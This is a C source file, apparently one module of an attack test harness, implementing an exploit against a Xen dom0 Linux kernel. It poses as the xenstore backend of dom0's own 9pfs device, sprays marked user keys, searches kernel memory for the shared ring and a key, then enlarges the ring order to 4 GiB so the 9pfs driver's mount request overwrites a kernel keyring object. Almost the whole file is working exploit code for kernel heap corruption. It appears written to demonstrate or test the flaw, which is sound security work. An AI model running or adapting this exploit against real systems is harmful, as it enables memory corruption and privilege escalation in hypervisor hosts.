// SPDX-License-Identifier: GPL-2.0-only
/*
 * L-FRONTEND: be the backend of dom0's own 9pfs, and have it write where we
 * say.
 *
 * The kernel looks for devices of dom0's in xenstore as any guest's kernel
 * does, and root is whoever stands there as their backend. The 9pfs driver
 * keeps the size of its ring, and where it goes on writing, in the page that it
 * shares with its backend. With a size of 4 GiB it writes the request by which
 * a file system is mounted to any place up to 4 GiB behind the ring: here over
 * a key, whose place and the ring's /proc/kcore tells.
 *
 * The shared pages are reached by copies, because a PVH dom0 cannot map its own
 * grants.
 */
#include "store.h"

#include <fcntl.h>
#include <linux/kernel-page-flags.h>
#include <linux/keyctl.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include <xen/gntdev.h>
#include <xen/grant_table.h>

#define FRONTEND "/local/domain/0/device/9pfs/0"
#define BACKEND  "/local/domain/0/rogue/9pfs"

/* ---- the shared pages ---- */

/* The first page, as xen/io/9pfs.h has it. */
struct interface {
    uint32_t in_cons, in_prod;
    uint8_t pad1[56];
    uint32_t out_cons, out_prod;
    uint8_t pad2[56];
    uint32_t order;
    grant_ref_t refs[4];
};

/* Of four pages the latter two are the ring to the backend. */
#define ORDER     2
#define OUT_PAGE  2
#define ALL_ORDER 21 /* a ring of 4 GiB, so that no bit of an index counts */

static bool copy(grant_ref_t ref, void *bytes, uint16_t size, bool write)
{
    struct gntdev_grant_copy_segment segment = {
        .len = size, .flags = write ? GNTCOPY_dest_gref : GNTCOPY_source_gref
    };
    struct ioctl_gntdev_grant_copy request = { 1, &segment };
    const int driver = open("/dev/xen/gntdev", O_RDWR | O_CLOEXEC);
    bool done;

    if ( write )
    {
        segment.source.virt = bytes;
        segment.dest.foreign.ref = ref;
    }
    else
    {
        segment.dest.virt = bytes;
        segment.source.foreign.ref = ref;
    }
    done = driver >= 0 && !ioctl(driver, IOCTL_GNTDEV_GRANT_COPY, &request) &&
           segment.status == GNTST_okay;
    if ( driver >= 0 )
        close(driver);

    return done;
}

/* ---- where things are in the kernel ---- */

/* Each page or key that is looked for begins with this and its own number. */
struct label {
    uint64_t text, number;
};

#define TEXT 0x6568742065757267UL

#define NR_KEYS  256
#define KEY_SIZE 1000
#define RING     NR_KEYS

/* The ring to the backend, and the first key behind it. */
static struct {
    uint64_t ring, key;
    unsigned int number;
} found;

static void search(uint64_t address, const uint64_t *words, size_t nr)
{
    for ( size_t i = 0; i + 1 < nr; i++, address += sizeof(*words) )
        if ( words[i] != TEXT )
            continue;
        else if ( words[i + 1] == RING )
            found.ring = address;
        else if ( words[i + 1] < NR_KEYS && found.ring && !found.key )
        {
            found.key = address;
            found.number = (unsigned int)words[i + 1];
        }
}

/* The kernel's own, although its header for programs leaves it out. */
#define KPF_RESERVED 32

/* Pages of the kernel's own, as far as /proc/kpageflags tells. */
static bool is_kernels(uint64_t flags)
{
    static const uint64_t others = 1 << KPF_LRU | 1 << KPF_BUDDY |
                                   1 << KPF_MMAP | 1 << KPF_ANON |
                                   1 << KPF_NOPAGE | 1 << KPF_OFFLINE |
                                   1 << KPF_PGTABLE | 1UL << KPF_RESERVED;

    return !(flags & others);
}

#define PAGES_AT_ONCE 512

/* Some pages, from an address in the kernel's map of all memory. */
static void search_pages(uint64_t address, const uint64_t *flags, size_t nr)
{
    static uint64_t words[PAGES_AT_ONCE * PAGE_SIZE / sizeof(uint64_t)];
    size_t size;

    for ( size_t first = 0, end = 0; first < nr; first = ++end )
    {
        while ( end < nr && is_kernels(flags[end]) )
            end++;
        size = (end - first) * PAGE_SIZE;
        if ( size && read_kernel(address + first * PAGE_SIZE, words, size) )
            search(address + first * PAGE_SIZE, words, size / sizeof(*words));
    }
}

static void search_kernel(void)
{
    const int all = open("/proc/kpageflags", O_RDONLY | O_CLOEXEC);
    const uint64_t variable = kernel_symbol("page_offset_base");
    uint64_t start, flags[PAGES_AT_ONCE];
    ssize_t size;

    if ( all < 0 || !variable || !read_kernel(variable, &start, sizeof(start)) )
        return;

    while ( !found.key && (size = read(all, flags, sizeof(flags))) > 0 )
    {
        search_pages(start, flags, (size_t)size / sizeof(*flags));
        start += (size_t)size / sizeof(*flags) * PAGE_SIZE;
    }
    close(all);
}

/*
 * What was read may be a copy that the reading itself had made: read something
 * else, then the same again.
 */
static bool is_there(uint64_t address, unsigned int number)
{
    struct label label = { 0, 0 };
    uint8_t other[PAGE_SIZE];

    return address &&
           read_kernel(kernel_symbol("_text"), other, sizeof(other)) &&
           read_kernel(address, &label, sizeof(label)) && label.text == TEXT &&
           label.number == number;
}

/* ---- keys ---- */

static int keys[NR_KEYS];

static bool add_keys(void)
{
    static uint8_t payload[KEY_SIZE];
    struct label *label = (struct label *)payload;

    for ( unsigned int i = 0; i < NR_KEYS; i++ )
    {
        char name[16];

        snprintf(name, sizeof(name), "9pfs%u", i);
        *label = (struct label){ TEXT, i };
        keys[i] = (int)syscall(SYS_add_key, "user", name, payload,
                               sizeof(payload), KEY_SPEC_PROCESS_KEYRING);
        if ( keys[i] < 0 )
            return false;
    }
    memset(payload, 0, sizeof(payload));

    return true;
}

/* The request that 9pfs sends first ends so. */
static bool has_request(int key)
{
    static const char version[] = "9P2000.L";
    char payload[KEY_SIZE];

    return syscall(SYS_keyctl, KEYCTL_READ, key, payload, sizeof(payload)) ==
               sizeof(payload) &&
           memmem(payload, 64, version, sizeof(version) - 1);
}

/* ---- the attack ---- */

/* Does the driver offer its rings to us? */
static bool attach_frontend(void)
{
    static const char *const backend[] = {
        "frontend",  FRONTEND, "frontend-id",         "0", "versions", "1",
        "max-rings", "2",      "max-ring-page-order", "2", "state",    "2",
        NULL
    };
    static const char *const frontend[] = { "backend", BACKEND, "backend-id",
                                            "0",       "tag",   "rogue",
                                            "state",   "1",     NULL };

    return (*store_read(FRONTEND "/state") ||
            (store_write_all(BACKEND, backend) &&
             store_write_all(FRONTEND, frontend))) &&
           store_shows(FRONTEND "/state", "3");
}

/* The call waits for an answer that never comes. */
static void mount_9pfs(void)
{
    mkdir("/9pfs", 0755);
    if ( !fork() )
    {
        mount("rogue", "/9pfs", "9p", 0, "trans=xen,version=9p2000.L");
        _exit(0);
    }
    rest(1000);
}

static enum outcome write_to_key(void)
{
    /* requests of the first kind have a tag that leads to the second ring */
    const grant_ref_t ref = (grant_ref_t)atoi(
        store_read(FRONTEND "/ring-ref1"));
    struct interface *shared = buffer(PAGE_SIZE);
    struct label *label = buffer(PAGE_SIZE);

    *label = (struct label){ TEXT, RING };
    if ( !copy(ref, shared, sizeof(*shared), false) || shared->order != ORDER ||
         !copy(shared->refs[OUT_PAGE], label, sizeof(*label), true) )
        return cannot_try("no copy to the shared pages");

    label->text = 0;
    search_kernel();
    if ( !is_there(found.ring, RING) || !is_there(found.key, found.number) )
        return cannot_try("no key behind the ring in the kernel's memory");

    shared->order = ALL_ORDER;
    shared->out_cons = shared->out_prod = (uint32_t)(found.key - found.ring);
    copy(ref, shared, sizeof(*shared), true);
    mount_9pfs();
    shared->order = ORDER;
    shared->out_cons = shared->out_prod = 0;
    copy(ref, shared, sizeof(*shared), true);

    if ( !has_request(keys[found.number]) )
        return cannot_try("9pfs serves us, and has not written over the key");

    return effect(true, "a key of the kernel's overwritten by 9pfs");
}

ATTACK_OWN_BOOT("L-FRONTEND",
                "have a frontend of dom0's write over the kernel's heap")
{
    if ( access("/sys/bus/xen/drivers/9pfs", F_OK) )
        return cannot_try("the kernel has no 9pfs for Xen");
    if ( !add_keys() )
        return cannot_try("no keys: %s", strerrorname_np(errno));
    if ( !serve_store() )
        return cannot_try("xenstore cannot be served");

    if ( attach_frontend() )
        return write_to_key();
    return access("/sys/bus/xen/devices/9pfs-0", F_OK)
               ? cannot_try("the kernel has not seen the device")
               : effect(false, "the driver does not take the device");
}
